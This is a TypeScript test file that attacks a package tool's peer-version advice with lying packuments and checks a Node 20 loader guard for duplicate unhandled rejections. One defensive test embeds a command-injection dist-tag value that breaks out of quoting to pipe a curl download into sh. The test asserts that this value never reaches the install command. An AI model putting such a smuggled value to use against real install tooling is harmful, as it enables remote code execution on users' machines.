/**
 * Hostile review of the peer change, the core-only cases: advice built from a packument that lies, and the loader's
 * guard against Node 20's duplicate unhandled rejection (run in child processes, which keep Node's default handling:
 * vitest's own listeners would hide what the guard does).
 */
import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { adviseVersion, highestSatisfying, installSpec, newestVersion, nothingSatisfies } from '../src/peer-advice.js';

describe('peer advice from a packument that lies', () => {
  it('a dist-tag naming a version the packument does not list is never suggested', () => {
    const published = { versions: ['1.0.0', '1.1.0'], distTags: { latest: '9.9.9', next: '2.0.0' } };
    const advice = adviseVersion('x', 'next', published);
    expect(advice.suggested).toBeUndefined();
    expect(advice).toMatchObject({ unsatisfiable: true, newest: '1.1.0' });
    expect(installSpec(advice)).toBeUndefined();
  });

  it('a dist-tag whose value is a shell command is never quoted into the install command', () => {
    const evil = '1.0.0"; curl http://127.0.0.1:9/x | sh; echo "';
    const published = { versions: ['1.0.0', evil], distTags: { latest: evil, next: evil } };
    for (const range of ['next', 'latest']) {
      const advice = adviseVersion('x', range, published);
      expect(advice.suggested).toBeUndefined();
      expect(installSpec(advice) ?? '').not.toContain('curl');
      expect(nothingSatisfies(advice)).not.toContain('curl');
    }
    expect(newestVersion(published)).toBe('1.0.0');
  });

  it.each(['constructor', 'toString', 'hasOwnProperty', '__proto__'])('a peer range "%s" (a valid dist-tag name) is looked up as an own key', (tag) => {
    const advice = adviseVersion('x', tag, { versions: ['1.0.0'], distTags: { latest: '1.0.0' } });
    expect(advice.suggested).toBeUndefined();
    expect(advice.unsatisfiable).toBe(true);
    expect(installSpec(advice)).toBeUndefined();
  });

  it('versions padded with line breaks or Unicode spaces are shown in their clean form', () => {
    const published = { versions: ['\n\n1.2.3\r\n', '\u2028 1.3.0 \u2029', 'not-a-version', '1.0.0\u001b[2J'], distTags: { latest: ' 1.3.0\n' } };
    expect(highestSatisfying('^1.0.0', published.versions)).toBe('1.3.0');
    expect(adviseVersion('x', '^1.0.0', published).suggested).toBe('1.3.0');
    expect(newestVersion(published)).toBe('1.3.0');
    expect(newestVersion({ versions: ['\n2.0.0\n', '1.0.0\u001b[2J'], distTags: {} })).toBe('2.0.0');
  });

  it('a packument of a million versions, most of them junk, still answers with a published version', { timeout: 120_000 }, () => {
    const versions: string[] = [];
    for (let i = 0; i < 1_000_000; i++) versions.push(i % 2 === 0 ? `0.${i}.0` : `junk-${i}\u001b]0;x\u0007`);
    const advice = adviseVersion('x', '^0.999998.0', { versions, distTags: { latest: 'junk-1' } });
    expect(advice.suggested).toBe('0.999998.0');
    expect(newestVersion({ versions, distTags: { latest: 'junk-1' } })).toBe('0.999998.0');
  });
});

describe("the loader's guard against Node 20's duplicate rejection (a child process each)", () => {
  let root: string;
  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'hostile-peers-guard-'));
  });
  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  let runs = 0;
  async function child(count: number, mode: string, nodeOptions = ''): Promise<{ code: number; stdout: string; stderr: string }> {
    const script = join(import.meta.dirname, 'support', 'duplicate-rejection.ts');
    const tsx = join(import.meta.dirname, '..', 'node_modules', '.bin', 'tsx');
    try {
      const { stdout, stderr } = await promisify(execFile)(tsx, [script, join(root, `run-${++runs}`), String(count), mode], {
        env: { ...process.env, NODE_OPTIONS: `--conditions=dev-source ${nodeOptions}` },
      });
      return { code: 0, stdout, stderr };
    } catch (error) {
      const failed = error as { code?: number; stdout?: string; stderr?: string };
      return { code: typeof failed.code === 'number' ? failed.code : -1, stdout: failed.stdout ?? '', stderr: failed.stderr ?? '' };
    }
  }

  it('held: an ES module importing a throwing CommonJS package fails the load, not the host (one and three loads)', { timeout: 60_000 }, async () => {
    expect(await child(1, 'error')).toMatchObject({ code: 0, stdout: 'loaded E_LOAD\n' });
    expect(await child(3, 'error')).toMatchObject({ code: 0, stdout: 'loaded E_LOAD,E_LOAD,E_LOAD\n' });
  });

  it('fixed: a CommonJS package that throws a string (not an object) fails the load, not the host', { timeout: 60_000 }, async () => {
    // The guard used to return early for anything but an object: Node 20's duplicate report of the string ended the host.
    expect(await child(1, 'string')).toMatchObject({ code: 0, stdout: 'loaded E_LOAD\n' });
    expect(await child(2, 'string')).toMatchObject({ code: 0, stdout: 'loaded E_LOAD,E_LOAD\n' });
  });

  it('held: a different rejection the failing package leaves unhandled still ends the host', { timeout: 60_000 }, async () => {
    const run = await child(2, 'foreign');
    expect(run.code).not.toBe(0);
    expect(run.stderr).toContain('host bug: nobody handles this');
    expect(run.stdout).not.toContain('loaded');
  });

  it.each([1, 2, 3])(
    'fixed: a real rejection of the host while %i concurrent failed loads wait out the duplicates still ends the host',
    { timeout: 60_000 },
    async (count) => {
      // With one listener per waiting load, two overlapping waits each saw the other's listener, so neither raised the
      // host's rejection: it was silently dropped and the process went on.
      const run = await child(count, 'window-same');
      expect(run.code).not.toBe(0);
      expect(run.stderr).toContain('host bug in the window');
      expect(run.stdout).not.toContain('loaded');
    },
  );

  it('fixed: a host running with --unhandled-rejections=none or warn is not ended by a rejection arriving in the window', { timeout: 60_000 }, async () => {
    // The guard raised every foreign rejection as an uncaught exception, whatever the mode the host had chosen.
    expect(await child(1, 'window-same', '--unhandled-rejections=none')).toMatchObject({ code: 0, stdout: 'loaded E_LOAD\n' });
    const warned = await child(1, 'window-same', '--unhandled-rejections=warn');
    expect(warned).toMatchObject({ code: 0, stdout: 'loaded E_LOAD\n' });
    expect(warned.stderr).toContain('host bug in the window');
    const coded = await child(1, 'window-same', '--unhandled-rejections=warn-with-error-code');
    expect(coded).toMatchObject({ code: 1, stdout: 'loaded E_LOAD\n' });
    expect(coded.stderr).toContain('host bug in the window');
  });

  it('held: in those modes the duplicate alone is still only the failed load', { timeout: 60_000 }, async () => {
    for (const mode of ['none', 'warn', 'warn-with-error-code']) {
      expect(await child(1, 'error', `--unhandled-rejections=${mode}`)).toMatchObject({ code: 0, stdout: 'loaded E_LOAD\n' });
    }
  });
});
